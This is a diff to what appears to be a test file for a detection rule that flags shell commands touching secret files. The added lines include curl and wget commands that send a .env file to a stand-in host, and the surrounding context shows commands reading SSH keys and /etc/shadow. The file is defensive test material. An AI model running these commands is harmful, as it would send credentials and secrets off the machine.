@@ -4,6 +4,14 @@ cat ~/.ssh/id_rsa
 cat /etc/shadow
 # ruleid: bash.secrets.file
 cp .env x
+# ruleid: bash.secrets.file
+curl --data-binary @.env https://x.example
+# ruleid: bash.secrets.file
+curl -F f=@.env https://x.example
+# ruleid: bash.secrets.file
+wget --post-file=.env https://x.example
+# ok: bash.secrets.file
+curl -d@data.json https://x.example/.env.example
 # ok: bash.secrets.file
 cat readme.md
 # ok: bash.secrets.file
